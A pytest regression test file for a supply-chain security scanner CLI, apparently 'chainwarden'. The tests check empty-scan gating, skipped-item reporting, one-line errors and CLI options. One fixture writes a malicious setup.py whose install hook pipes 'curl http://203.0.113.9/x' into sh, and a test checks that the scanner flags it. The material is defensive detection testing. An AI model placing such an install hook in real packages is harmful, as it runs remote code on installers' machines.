"""Regression tests for the guarantees of issue 9: no gate passes on nothing checked, skipped items
are reported with their reason in every format, errors are one line, and the interface behaves."""

from __future__ import annotations

import json
import os
import pty
import select
import subprocess
import sys
from pathlib import Path

import click
import jsonschema
import pytest

from chainwarden.cli import cli, main
from support.images import dist_info, make_oci

REPO = Path(__file__).resolve().parents[3]
ADVISORIES = REPO / "demo" / "advisories"
ENTRY_POINT = "import sys; from chainwarden.cli import main; sys.exit(main())"
TRUNCATED_LOCK = '{"name": "x", "lockfileVersion": 3, "packages": {"node_modules/lodash": {"version": "4.17'


@pytest.fixture
def database(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    path = tmp_path / "osv.sqlite3"
    assert main(["db", "import", "--db", str(path), str(ADVISORIES)]) == 0
    monkeypatch.setenv("CHAINWARDEN_DB", str(path))
    monkeypatch.setenv("CHAINWARDEN_CACHE_DIR", str(tmp_path / "cache"))
    return path


@pytest.fixture
def truncated(tmp_path: Path) -> Path:
    project = tmp_path / "project"
    project.mkdir()
    (project / "package-lock.json").write_text(TRUNCATED_LOCK)
    return project


def _sarif_schema() -> dict[str, object]:
    from importlib import resources

    text = resources.files("chainwarden.report").joinpath("schemas/sarif-schema-2.1.0.json").read_text("utf-8")
    schema: dict[str, object] = json.loads(text)
    return schema


# -- Rule 1: a gate never passes on nothing checked ---------------------------------------------


def test_fail_on_fails_when_nothing_was_checked(
    database: Path, truncated: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    capsys.readouterr()
    assert main(["scan", str(truncated), "--fail-on", "high"]) == 1
    captured = capsys.readouterr()
    assert "Nothing was checked" in captured.out and "No findings." not in captured.out
    assert "nothing was checked" in captured.err and "--allow-empty" in captured.err


def test_allow_empty_lets_an_empty_scan_pass(database: Path, truncated: Path) -> None:
    assert main(["scan", str(truncated), "--fail-on", "high", "--allow-empty"]) == 0


def test_without_a_gate_an_empty_scan_still_exits_clean(database: Path, truncated: Path) -> None:
    assert main(["scan", str(truncated)]) == 0


def test_a_truncated_lockfile_is_skipped_with_its_reason_in_every_format(
    database: Path, truncated: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    capsys.readouterr()
    assert main(["scan", str(truncated)]) == 0
    table = capsys.readouterr().out
    assert "0 packages checked; 1 skipped:" in table
    assert "package-lock.json" in table and "invalid JSON" in table

    assert main(["scan", str(truncated), "-f", "json"]) == 0
    coverage = json.loads(capsys.readouterr().out)["coverage"]
    assert coverage["empty"] is True and coverage["total"] == 0
    (skipped,) = coverage["skipped"]
    assert skipped["location"]["path"] == "package-lock.json" and "invalid JSON" in skipped["reason"]

    assert main(["scan", str(truncated), "-f", "sarif"]) == 0
    log = json.loads(capsys.readouterr().out)
    jsonschema.validate(log, _sarif_schema())
    notifications = log["runs"][0]["invocations"][0]["toolExecutionNotifications"]
    assert notifications[0]["level"] == "error" and "Nothing was checked" in notifications[0]["message"]["text"]
    skipped_note = notifications[1]
    assert "invalid JSON" in skipped_note["message"]["text"]
    location = skipped_note["locations"][0]["physicalLocation"]["artifactLocation"]
    assert location == {"uri": "package-lock.json", "uriBaseId": "%SRCROOT%"}


def test_summary_line_says_how_much_was_checked(
    database: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    project = tmp_path / "ok"
    project.mkdir()
    (project / "requirements.txt").write_text("requests==2.31.0\nurllib3==2.0.0\n")
    capsys.readouterr()
    assert main(["scan", str(project), "--fail-on", "critical"]) in (0, 1)
    assert "2 packages checked." in capsys.readouterr().out


def test_lint_follows_a_symlinked_dockerfile_into_a_subfolder(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "docker").mkdir()
    (tmp_path / "docker" / "Dockerfile.prod").write_text("FROM ubuntu\nRUN apt-get install curl\n")
    (tmp_path / "Dockerfile").symlink_to("docker/Dockerfile.prod")
    monkeypatch.chdir(tmp_path)
    capsys.readouterr()
    assert main(["lint", "Dockerfile", "--fail-on", "low", "-f", "json"]) == 1
    document = json.loads(capsys.readouterr().out)
    assert document["coverage"]["checked"] == {"file": 1}
    assert "dockerfile-unpinned-base" in {f["rule_id"] for f in document["findings"]}


def _huge_dockerfile() -> bytes:
    return b"FROM scratch\n" + b"RUN echo aaaa\n" * 250_000  # 3.5 MB


def _binary_dockerfile() -> bytes:
    return b"\x7fELF\x02\x01\x01" + bytes(300) + b"\xff\xfe\xfd" * 100


@pytest.mark.parametrize(
    ("content", "message"),
    [(_huge_dockerfile(), "too large"), (_binary_dockerfile(), "binary file")],
    ids=["3 MB", "binary"],
)
def test_lint_refuses_a_named_dockerfile_it_cannot_lint(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], content: bytes, message: str
) -> None:
    dockerfile = tmp_path / "Dockerfile"
    dockerfile.write_bytes(content)
    capsys.readouterr()
    assert main(["lint", str(dockerfile), "--fail-on", "low"]) == 2
    err = capsys.readouterr().err.strip()
    assert err.startswith("chainwarden: error: ") and message in err and "\n" not in err


def test_lint_walk_lists_an_unlintable_file_as_skipped_and_fails_the_empty_gate(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "Dockerfile").write_bytes(_binary_dockerfile())
    capsys.readouterr()
    assert main(["lint", str(tmp_path), "--fail-on", "low", "-f", "sarif"]) == 1
    log = json.loads(capsys.readouterr().out)
    texts = [n["message"]["text"] for n in log["runs"][0]["invocations"][0]["toolExecutionNotifications"]]
    assert any("binary file" in text for text in texts)
    assert main(["lint", str(tmp_path), "--fail-on", "low", "--allow-empty"]) == 0


def _package_dir(root: Path) -> Path:
    package = root / "evilpkg"
    (package / "evil").mkdir(parents=True)
    (package / "setup.py").write_text(
        "import os\nfrom setuptools import setup\n"
        "os.system('curl -s http://203.0.113.9/x | sh')\n"
        "setup(name='evilpkg', version='1.0', packages=['evil'])\n"
    )
    (package / "evil" / "__init__.py").write_text("VALUE = 1\n")
    return package


def test_vet_scans_the_code_of_a_package_directory(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    package = _package_dir(tmp_path)
    capsys.readouterr()
    assert main(["vet", str(package), "--offline", "-f", "json"]) == 0
    document = json.loads(capsys.readouterr().out)
    assert document["vet"]["artifacts"] == 1
    install_hooks = [f for f in document["findings"] if f["rule_id"] == "capability-install-hook"]
    assert install_hooks and install_hooks[0]["package"]["name"] == "evilpkg"
    assert install_hooks[0]["location"]["path"] == "setup.py"

    assert main(["vet", str(package), "--offline", "-f", "sarif"]) == 0
    run = json.loads(capsys.readouterr().out)["runs"][0]
    assert run["originalUriBaseIds"]["%SRCROOT%"]["uri"] == package.as_uri() + "/"


def test_vet_says_when_the_code_of_a_package_checkout_was_not_scanned(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    package = _package_dir(tmp_path)
    (package / ".git").mkdir()
    capsys.readouterr()
    assert main(["vet", str(package), "--offline", "--fail-on", "low"]) == 1
    captured = capsys.readouterr()
    assert "its own code was not" in captured.err and "--scan-code" in captured.err
    assert "Nothing was checked" in captured.out


def test_vet_of_a_directory_with_a_nameless_setup_py_names_it_after_the_directory(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / "My_Tool"
    folder.mkdir()
    (folder / "setup.py").write_text("from setuptools import setup\nsetup()\n")
    monkeypatch.chdir(folder)
    capsys.readouterr()
    assert main(["vet", ".", "--offline", "--scan-code", "-f", "json"]) == 0
    assert json.loads(capsys.readouterr().out)["vet"]["artifacts"] == 1


def test_drift_fails_when_it_compared_nothing(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from chainwarden.runtime.profile import Profile

    baseline = tmp_path / "baseline.json"
    baseline.write_text(
        Profile({"reference": "dir:x", "kind": "dir", "digest": None, "config_digest": None}, "none").dumps()
    )
    rootfs = tmp_path / "rootfs"
    (rootfs / "etc").mkdir(parents=True)
    capsys.readouterr()
    assert main(["drift", "--baseline", str(baseline), f"dir:{rootfs}"]) == 1
    captured = capsys.readouterr()
    assert "nothing compared" in captured.out and "nothing was checked" in captured.err
    assert main(["drift", "--baseline", str(baseline), f"dir:{rootfs}", "--allow-empty"]) == 0


# -- Rule 3: no traceback, one line, the right exit code --------------------------------------


@pytest.mark.parametrize("where", ["--ignore-file", "./.chainwarden-ignore.yaml"])
def test_an_impossible_expiry_date_is_one_error_line(
    database: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], where: str
) -> None:
    monkeypatch.chdir(tmp_path)
    ignore = tmp_path / ".chainwarden-ignore.yaml"
    ignore.write_text("- id: GHSA-xxxx-xxxx-xxxx\n  reason: not reachable\n  expires: 2024-02-30\n")
    args = ["scan", ".", *(["--ignore-file", str(ignore)] if where == "--ignore-file" else [])]
    capsys.readouterr()
    assert main(args) == 2
    err = capsys.readouterr().err.strip()
    assert err.startswith("chainwarden: error: ") and "2024-02-30" in err and "\n" not in err


def test_usage_errors_are_two_lines_not_a_usage_block(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["sbom"]) == 2
    lines = capsys.readouterr().err.strip().splitlines()
    assert lines[0] == "chainwarden: error: Missing argument 'TARGET'."
    assert len(lines) == 2 and lines[1].startswith("Usage: chainwarden sbom")


# -- the interface ------------------------------------------------------------------------------


def _run_on_a_terminal(args: list[str], env: dict[str, str], cwd: Path) -> str:
    leader, follower = pty.openpty()
    process = subprocess.Popen(
        [sys.executable, "-c", ENTRY_POINT, *args],
        stdout=follower,
        stderr=subprocess.DEVNULL,
        env=env,
        cwd=cwd,
    )
    os.close(follower)
    chunks: list[bytes] = []
    while True:
        ready, _, _ = select.select([leader], [], [], 60)
        if not ready:
            break
        try:
            chunk = os.read(leader, 65536)
        except OSError:  # EIO: the child closed the terminal
            break
        if not chunk:
            break
        chunks.append(chunk)
    process.wait(timeout=60)
    os.close(leader)
    return b"".join(chunks).decode("utf-8", "replace")


def test_no_color_is_honoured_on_a_terminal(tmp_path: Path) -> None:
    (tmp_path / "Dockerfile").write_text("FROM ubuntu\n")
    env = {k: v for k, v in os.environ.items() if k not in ("NO_COLOR", "COLUMNS", "FORCE_COLOR")}
    assert "\x1b[" in _run_on_a_terminal(["lint", "Dockerfile"], env, tmp_path)
    assert "\x1b[" not in _run_on_a_terminal(["lint", "Dockerfile"], {**env, "NO_COLOR": "1"}, tmp_path)


def test_columns_is_honoured_when_piped(tmp_path: Path) -> None:
    (tmp_path / "Dockerfile").write_text("FROM ubuntu\nRUN apt-get install curl wget git\n")
    for columns in (80, 100):
        completed = subprocess.run(
            [sys.executable, "-c", ENTRY_POINT, "lint", "Dockerfile"],
            capture_output=True,
            text=True,
            env={**os.environ, "COLUMNS": str(columns)},
            cwd=tmp_path,
            check=False,
        )
        widths = [len(line) for line in completed.stdout.splitlines()]
        assert max(widths) <= columns and max(widths) > columns - 20, completed.stdout


def test_db_status_fits_80_columns(tmp_path: Path) -> None:
    deep = tmp_path / ("a" * 60) / ("b" * 60)
    deep.mkdir(parents=True)
    database = deep / "osv.sqlite3"
    assert main(["db", "import", "--db", str(database), str(ADVISORIES)]) == 0
    completed = subprocess.run(
        [sys.executable, "-c", ENTRY_POINT, "db", "status", "--db", str(database)],
        capture_output=True,
        text=True,
        env={**os.environ, "COLUMNS": "80"},
        check=True,
    )
    assert max(len(line) for line in completed.stdout.splitlines()) <= 80, completed.stdout
    assert "records" in completed.stdout


def _root() -> click.Context:
    # make_context applies the group's context_settings (-h); a bare Context would have click
    # cache a help option without it, and every later help text would differ
    return cli.make_context("chainwarden", [], resilient_parsing=True)


IMAGE_OPTIONS = {"platform", "cache_dir", "no_cache", "insecure_registry"}


def _options(name: str) -> dict[str | None, click.Parameter]:
    command = cli.get_command(_root(), name)
    assert command is not None
    return {param.name: param for param in command.params}


@pytest.mark.parametrize("name", ["sbom", "scan", "lint", "vet", "profile", "harden", "drift", "watch"])
def test_commands_that_open_images_share_the_image_options(name: str) -> None:
    params, reference = _options(name), _options("sbom")
    for option in IMAGE_OPTIONS:
        mine, shared = params[option], reference[option]
        assert isinstance(mine, click.Option) and isinstance(shared, click.Option)
        assert (mine.opts, mine.help, mine.default) == (shared.opts, shared.help, shared.default)


def test_vet_pulls_image_layers_through_the_given_cache_dir(tmp_path: Path) -> None:
    layout = make_oci(tmp_path / "image", [dist_info("requests", "2.31.0", ["requests/__init__.py"])])
    cache = tmp_path / "layer-cache"
    assert main(["vet", f"oci:{layout}", "--offline", "--cache-dir", str(cache)]) == 0
    assert any(path.is_file() for path in cache.rglob("*"))
    other = tmp_path / "unused-cache"
    assert main(["vet", f"oci:{layout}", "--offline", "--cache-dir", str(other), "--no-cache"]) == 0
    assert not other.exists()


def test_watch_takes_format_and_output_like_the_other_commands() -> None:
    command = cli.get_command(_root(), "watch")
    assert command is not None
    params = {param.name: param for param in command.params}
    assert {"output_format", "output"} <= set(params)
    deprecated = params["json_lines"]
    assert isinstance(deprecated, click.Option) and deprecated.hidden


def test_harden_engine_has_help_text() -> None:
    command = cli.get_command(_root(), "harden")
    assert command is not None
    engine = next(param for param in command.params if param.name == "engine")
    assert isinstance(engine, click.Option) and engine.help and "bwrap" in engine.help


def _leaf_commands(command: click.Command, ctx: click.Context) -> list[tuple[str, click.Command]]:
    if not isinstance(command, click.Group):
        return [(ctx.command_path, command)]
    found: list[tuple[str, click.Command]] = [(ctx.command_path, command)]  # groups show examples too
    for name in command.list_commands(ctx):
        sub = command.get_command(ctx, name)
        if sub is not None:
            found += _leaf_commands(sub, sub.make_context(name, [], parent=ctx, resilient_parsing=True))
    return found


@pytest.mark.parametrize(
    ("path", "command"),
    _leaf_commands(cli, _root()),
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_every_subcommand_help_shows_real_examples(path: str, command: click.Command) -> None:
    assert command.help is not None and "Examples:" in command.help
    examples = [line.strip() for line in command.help.split("Examples:", 1)[1].splitlines() if line.strip()]
    expected = "chainwarden " if path == "chainwarden" else f"{path} "
    assert len(examples) >= 2 and all(line.startswith(expected) or line == path for line in examples), examples


def test_vet_sarif_points_each_result_at_its_own_package(capsys: pytest.CaptureFixture[str]) -> None:
    capsys.readouterr()
    assert main(["vet", "pypi:reqeusts", "npm:lodahs", "--offline", "-f", "sarif"]) == 0
    results = json.loads(capsys.readouterr().out)["runs"][0]["results"]
    uris = {
        result["properties"]["package"]["name"]: result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
        for result in results
    }
    assert uris == {"reqeusts": "pypi:reqeusts", "lodahs": "npm:lodahs"}


def test_shell_completion_as_the_readme_documents_it() -> None:
    readme = (REPO / "README.md").read_text()
    assert 'eval "$(_CHAINWARDEN_COMPLETE=bash_source chainwarden)"' in readme
    env = {**os.environ, "COMP_WORDS": "chainwarden scan --fail", "COMP_CWORD": "2"}
    completed = subprocess.run(
        [sys.executable, "-c", ENTRY_POINT],
        capture_output=True,
        text=True,
        env={**env, "_CHAINWARDEN_COMPLETE": "bash_complete"},
        check=True,
    )
    assert "plain,--fail-on" in completed.stdout.splitlines()


def test_a_directory_that_cannot_be_listed_is_a_skipped_record(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    project = tmp_path / "project"
    (project / "locked").mkdir(parents=True)
    (project / "locked" / "requirements.txt").write_text("requests==2.31.0\n")
    (project / "Dockerfile").write_text("FROM scratch\n")
    real_scandir = os.scandir

    def scandir(path: str | os.PathLike[str] | int = ".") -> object:
        # tests run as root, for whom file modes deny nothing: refuse the listing here instead
        if not isinstance(path, int) and Path(path).name == "locked":
            raise PermissionError(13, "Permission denied", str(path))
        return real_scandir(path)

    monkeypatch.setattr(os, "scandir", scandir)
    capsys.readouterr()
    assert main(["sbom", str(project), "-f", "json"]) == 0
    (gap,) = json.loads(capsys.readouterr().out)["skipped"]
    assert gap["location"]["path"] == "locked" and "Permission denied" in gap["reason"]

    assert main(["lint", str(project), "-f", "json"]) == 0
    coverage = json.loads(capsys.readouterr().out)["coverage"]
    assert coverage["checked"] == {"file": 1}
    assert [s["location"]["path"] for s in coverage["skipped"]] == ["locked"]


def test_vet_lists_a_package_subdirectory_it_cannot_read_as_skipped(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    package = _package_dir(tmp_path)
    real_scandir = os.scandir

    def scandir(path: str | os.PathLike[str] | int = ".") -> object:
        if not isinstance(path, int) and Path(path).name == "evil":
            raise PermissionError(13, "Permission denied", str(path))
        return real_scandir(path)

    monkeypatch.setattr(os, "scandir", scandir)
    capsys.readouterr()
    assert main(["vet", str(package), "--offline", "-f", "json"]) == 0
    skipped = json.loads(capsys.readouterr().out)["coverage"]["skipped"]
    # once for the inventory walk, once for the code scan: two checks, each with its gap
    assert {(s["what"], s["location"]["path"]) for s in skipped} == {("directory", "evil"), ("evil", "evil")}
    assert all("Permission denied" in s["reason"] for s in skipped)


def test_lint_lists_a_lockfile_with_an_impossible_date_as_skipped(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "pnpm-lock.yaml").write_text("lockfileVersion: '9.0'\nsettings:\n  built: 2024-02-30\n")
    (tmp_path / "Dockerfile").write_text("FROM scratch\n")
    capsys.readouterr()
    assert main(["lint", str(tmp_path), "-f", "json"]) == 0
    (skipped,) = json.loads(capsys.readouterr().out)["coverage"]["skipped"]
    assert skipped["what"] == "pnpm-lock.yaml" and "day is out of range" in skipped["reason"]


def test_vet_reads_pip_and_uv_settings_it_cannot_decode_without_a_traceback(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "requirements.txt").write_text("requests==2.31.0\n")
    # pip reads pip.conf raw: "%" is a character, not an interpolation
    (tmp_path / "pip.conf").write_text("[global]\nextra-index-url = https://pypi.example.com/%7Euser/simple\n")
    (tmp_path / "uv.toml").write_bytes(b"\xff\xfe index-url = 1\n")
    (tmp_path / ".git").mkdir()
    capsys.readouterr()
    assert main(["vet", str(tmp_path), "--offline", "-f", "json"]) == 0
    document = json.loads(capsys.readouterr().out)
    (finding,) = [f for f in document["findings"] if f["rule_id"] == "dependency-confusion-extra-index"]
    assert finding["location"]["path"].endswith("pip.conf")
    assert document["coverage"]["checked"]["name"] == 1


def test_a_corrupt_refreshed_popularity_file_is_one_error_line(tmp_path: Path) -> None:
    from chainwarden.analyzers.popularity import PYPI_FILE

    data = tmp_path / "xdg" / "chainwarden"
    data.mkdir(parents=True)
    (data / PYPI_FILE).write_bytes(b"\xff\xfe not text\n")
    completed = subprocess.run(
        [sys.executable, "-c", ENTRY_POINT, "vet", "pypi:reqeusts", "--offline"],
        capture_output=True,
        text=True,
        env={**os.environ, "XDG_DATA_HOME": str(tmp_path / "xdg")},
        check=False,
    )
    assert completed.returncode == 2, completed.stderr
    assert completed.stderr.startswith("chainwarden: error: ") and "not UTF-8" in completed.stderr
    assert len(completed.stderr.strip().splitlines()) == 1


def test_lint_walk_follows_a_link_inside_the_checkout_once_and_not_one_leaving_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "docker").mkdir()
    real = tmp_path / "docker" / "Dockerfile"
    real.write_text("FROM ubuntu\n")
    (tmp_path / "Dockerfile").symlink_to(real)  # absolute, into the checkout
    outside = tmp_path.parent / f"{tmp_path.name}-outside.Dockerfile"
    outside.write_text("FROM debian\n")
    (tmp_path / "Dockerfile.ext").symlink_to(outside)
    capsys.readouterr()
    assert main(["lint", str(tmp_path), "-f", "json"]) == 0
    document = json.loads(capsys.readouterr().out)
    assert document["linted_files"] == ["docker/Dockerfile"]
    assert {f["location"]["path"] for f in document["findings"]} == {"docker/Dockerfile"}
    (skipped,) = document["coverage"]["skipped"]
    assert skipped["what"] == "Dockerfile.ext" and "outside the linted directory" in skipped["reason"]
